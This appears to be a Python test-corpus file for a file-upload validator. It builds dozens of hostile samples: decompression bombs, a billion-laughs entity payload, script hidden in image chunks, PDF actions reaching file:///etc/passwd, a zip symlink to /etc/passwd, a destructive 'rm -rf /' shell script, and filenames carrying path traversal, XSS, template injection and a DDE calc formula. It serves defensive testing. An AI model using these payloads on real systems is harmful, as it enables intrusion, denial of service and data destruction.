"""More files that nobody should send, beside those of B01–B16: what each is, and what must become of it.

`REFUSED` is the id that both doors answer; None: it is taken, and made harmless.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image

from tests.corpus.files import BOOKS, PAGE, PAPER, PICTURES, SVG
from tests.corpus.parts import external, mp4, office, packed, pdf, picture, png_saying

MB = 1024 * 1024
LAUGHS = b"<!DOCTYPE a [<!ENTITY b 'ha'><!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;&b;'>]><a>&c;</a>"


@dataclass(frozen=True, slots=True)
class Hostile:
    """One file: `why` it is here, the name it comes under, its bytes, the question, the id of the refusal or None."""

    why: str
    name: str
    make: Callable[[], bytes]
    refused: str | None
    field: str = PAPER


def _saved(image: Image.Image, kind: str, **more: object) -> bytes:
    made = io.BytesIO()
    image.save(made, kind, **more)
    return made.getvalue()


def _plain(mode: str = "RGB") -> Image.Image:
    return Image.new(mode, (40, 30))


def _png_with(kind: bytes, content: bytes) -> bytes:
    chunk = struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
    whole = picture("png")
    return whole[:33] + chunk + whole[33:]  # behind IHDR


def _jpeg_saying(text: bytes) -> bytes:
    whole = picture("jpeg")
    return whole[:2] + b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text + whole[2:]


def _pdf_that_unpacks(mb: int) -> bytes:
    """A page whose content is packed: mostly blanks, far more of them than the file is long."""
    packed_text = zlib.compress(b" " * (mb * MB))
    return pdf(more=(b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(packed_text), packed_text),))


def _pdf_in_a_circle() -> bytes:
    whole = pdf()
    at = int(whole.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
    return whole.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % at)


def _pages_in_a_circle() -> bytes:
    return pdf().replace(b"/Kids[3 0 R]/Count 1", b"/Kids[2 0 R]/Count 1")


def _nested_bomb() -> bytes:
    inner = packed({"a": b"\0" * (20 * MB)})
    return office("xlsx", more={f"xl/media/{number}.bin": inner for number in range(20)})


def _many_laughs() -> bytes:
    return office("docx", more={"word/styles.xml": LAUGHS})


def _a_link_inside() -> bytes:
    made = io.BytesIO(office("docx"))
    with zipfile.ZipFile(made, "a") as package:
        part = zipfile.ZipInfo("word/media/link.png", (2021, 7, 19, 9, 0, 0))
        part.create_system, part.external_attr = 3, 0o120777 << 16
        package.writestr(part, "/etc/passwd")
    return made.getvalue()


def _twice_the_same_part() -> bytes:
    made = io.BytesIO(office("docx"))
    with zipfile.ZipFile(made, "a") as package:
        part = zipfile.ZipInfo("WORD/document.xml", (2021, 7, 19, 9, 0, 0))
        package.writestr(part, "<other/>")
    return made.getvalue()


def _workbook_with(relation: str) -> bytes:
    return office("xlsx", relations=external(relation, "http://a.example/x.xlsx"))


HOSTILE = [
    # Two kinds at once, or another kind than the name says.
    Hostile("GIF and script, named as a photo", "a.jpg", lambda: b"GIF89a/*" + PAGE, "not_its_kind", PICTURES),
    Hostile("WebP named as a photo", "a.jpg", lambda: _saved(_plain(), "WEBP"), "not_its_kind", PICTURES),
    Hostile("TIFF named as a photo", "a.jpg", lambda: _saved(_plain(), "TIFF"), "not_its_kind", PICTURES),
    Hostile("BMP named as PNG", "a.png", lambda: _saved(_plain(), "BMP"), "not_its_kind", PICTURES),
    Hostile("icon named as PNG", "a.png", lambda: _saved(_plain(), "ICO"), "not_its_kind", PICTURES),
    Hostile("PostScript named as PDF", "a.pdf", lambda: b"%!PS-Adobe-3.0\n(x) print\n", "not_its_kind"),
    Hostile("a program of Linux", "a.pdf", lambda: b"\x7fELF" + bytes(2000), "not_its_kind"),
    Hostile("a page", "a.pdf", lambda: b"<!DOCTYPE html><script>alert(1)</script>", "not_its_kind"),
    Hostile("a script of a shell", "a.pdf", lambda: b"#!/bin/sh\nrm -rf /\n", "not_its_kind"),
    Hostile("a shortcut of Windows", "a.pdf.lnk", lambda: b"L\0\0\0" + bytes(80), "kind_not_accepted"),
    Hostile("RTF named as Word", "a.docx", lambda: b"{\\rtf1 {\\object}}", "not_its_kind", BOOKS),
    Hostile("plain ZIP named as Word", "a.docx", lambda: packed({"a.exe": b"MZ"}), "not_its_kind", BOOKS),
    Hostile("PowerPoint named as Word", "a.docx", lambda: packed({"ppt/slide.xml": b"<a/>"}), "not_its_kind", BOOKS),
    Hostile("photo named as PDF", "a.pdf", lambda: picture("jpeg"), "not_its_kind"),
    Hostile("SVG behind a long comment", "a.png", lambda: b"<!--" + b"x" * 3000 + b"-->" + SVG, "svg", PICTURES),
    Hostile("SVG in UTF-16", "a.png", lambda: SVG.decode().encode("utf-16"), "not_its_kind", PICTURES),
    Hostile("only blanks", "a.pdf", lambda: b" " * 5000, "not_its_kind"),
    Hostile("only zeros", "a.jpg", lambda: bytes(5000), "not_its_kind", PICTURES),
    # What hides in good files.
    Hostile("script in the comment of a photo", "a.jpg", lambda: _jpeg_saying(PAGE), None, PICTURES),
    Hostile("script in a text of a PNG", "a.png", lambda: _png_with(b"tEXt", b"Comment\0" + PAGE), None, PICTURES),
    Hostile("packed text of a PNG", "a.png", lambda: _png_with(b"zTXt", b"a\0\0" + zlib.compress(bytes(60 * MB))),
            "picture_unreadable", PICTURES),
    Hostile("a broken colour profile", "a.png", lambda: _png_with(b"iCCP", b"a\0\0" + b"\xff" * 50), None, PICTURES),
    Hostile("page behind a photo", "a.jpg", lambda: picture("jpeg") + PAGE, None, PICTURES),
    Hostile("photo in four inks", "a.jpg", lambda: _saved(_plain("CMYK"), "JPEG"), None, PICTURES),
    Hostile("a picture that moves", "a.png", lambda: _saved(_plain(), "PNG", save_all=True, append_images=[_plain()]),
            None, PICTURES),
    Hostile("49 megapixels in a few bytes", "a.png", lambda: png_saying(7000, 7000), "not_whole", PICTURES),
    Hostile("a picture without end", "a.png", lambda: png_saying(2**31 - 1, 1), "picture_too_large", PICTURES),
    Hostile("page behind a video", "a.mp4", lambda: mp4() + PAGE, "not_whole", BOOKS),
    Hostile("a video whose box lies", "a.mp4", lambda: mp4()[:24] + b"\xff" * 4 + mp4()[28:], "not_whole", BOOKS),
    # PDFs that are meant to hang or to burst.
    Hostile("tables in a circle", "a.pdf", _pdf_in_a_circle, None),
    Hostile("pages in a circle", "a.pdf", _pages_in_a_circle, "pdf_unreadable"),
    Hostile("a PDF that unpacks to 300 MB", "a.pdf", lambda: _pdf_that_unpacks(300), None),
    Hostile("a form that is sent", "a.pdf", lambda: pdf(catalog="/OpenAction<</S/SubmitForm/F(http://a.example)>>"),
            "pdf_active"),
    Hostile("rich media", "a.pdf", lambda: pdf(more=(b"<</Type/Annot/Subtype/RichMedia/RichMedia 1>>",)), "pdf_active"),
    Hostile("an address of the machine", "a.pdf", lambda: pdf(catalog="/OpenAction<</S/URI/URI(file:///etc/passwd)>>"),
            "pdf_active"),
    Hostile("half a PDF", "a.pdf", lambda: pdf()[:200], "not_whole"),
    # Office.
    Hostile("a bomb in a bomb", "a.xlsx", _nested_bomb, None, BOOKS),
    Hostile("entities that grow", "a.docx", _many_laughs, "office_declaration", BOOKS),
    Hostile("a link of the file system inside", "a.docx", _a_link_inside, None, BOOKS),
    Hostile("one part under two names", "a.docx", _twice_the_same_part, "office_altered", BOOKS),
    Hostile("a workbook that asks one", "a.xlsx", lambda: _workbook_with("externalLink"), "office_links_out", BOOKS),
    Hostile("a page inside", "a.docx", lambda: office("docx", more={"word/a.html": PAGE}), "office_program", BOOKS),
    Hostile("a shortcut inside", "a.xlsx", lambda: office("xlsx", more={"xl/a.lnk": b"L\0"}), "office_program", BOOKS),
    Hostile("what Excel asks of a database", "a.xlsx", lambda: office("xlsx", more={"xl/connections.xml": b"<a/>"}),
            "office_links_out", BOOKS),
    Hostile("ActiveX", "a.docx", lambda: office("docx", more={"word/activeX/activeX1.xml": b"<a/>"}), "macros", BOOKS),
    # Names.
    Hostile("two folders up", "../../../../etc/cron.d/x.pdf", lambda: pdf(text="n1"), None),
    Hostile("a share of Windows", "\\\\a.example\\c$\\x.pdf", lambda: pdf(text="n2"), None),
    Hostile("a device of Windows", "CON.pdf", lambda: pdf(text="n3"), None),
    Hostile("only an ending", ".pdf", lambda: pdf(text="n4"), "kind_not_accepted"),
    Hostile("dots at the end", "a.pdf...", lambda: pdf(text="n5"), None),
    Hostile("a tag", "<img src=x onerror=alert(1)>.pdf", lambda: pdf(text="n6"), None),
    Hostile("a template", "{{7*7}}${7*7}.pdf", lambda: pdf(text="n7"), None),
    Hostile("three hundred Thai letters", "ก" * 300 + ".pdf", lambda: pdf(text="n8"), None),
    Hostile("written from right to left", "\u202efdp.exe", lambda: pdf(text="n9"), "name_forbidden"),
    Hostile("isolated direction", "a\u2066b.pdf", lambda: pdf(text="n10"), "name_forbidden"),
    Hostile("unseen letters", "a\u200b\u200d\ufeffb.pdf", lambda: pdf(text="n11"), None),
    Hostile("only tone marks", "\u0e48\u0e49.pdf", lambda: pdf(text="n12"), None),
    Hostile("an escape", "a\x1b[31mb.pdf", lambda: pdf(text="n13"), "name_forbidden"),
    Hostile("a formula", "=cmd|' /C calc'!A0.pdf", lambda: pdf(text="n14"), None),
    Hostile("a Thai name with a decomposed sara am", "ท\u0e4d\u0e32.pdf", lambda: pdf(text="n15"), None),
]  # fmt: skip
